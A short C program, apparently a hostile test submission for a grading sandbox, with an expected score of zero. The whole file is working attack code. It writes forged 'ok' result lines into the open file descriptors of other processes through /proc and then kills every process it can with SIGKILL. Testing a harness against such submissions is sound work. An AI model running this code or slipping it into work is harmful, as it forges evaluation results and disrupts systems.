/* Hostile: writes ten lines of results to the output of every process that it sees, then kills all.
 * Score:   0
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    for (int pid = 1; pid < 5000; pid++)
        for (int fd = 0; fd < 20; fd++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
            int out = open(path, O_WRONLY | O_NONBLOCK);
            for (int n = 1; out != -1 && n <= 10; n++)
                dprintf(out, "ok %d forged in 3ms\n", n);
            if (out != -1)
                close(out);
        }
    kill(-1, SIGKILL);
    return 0;
}
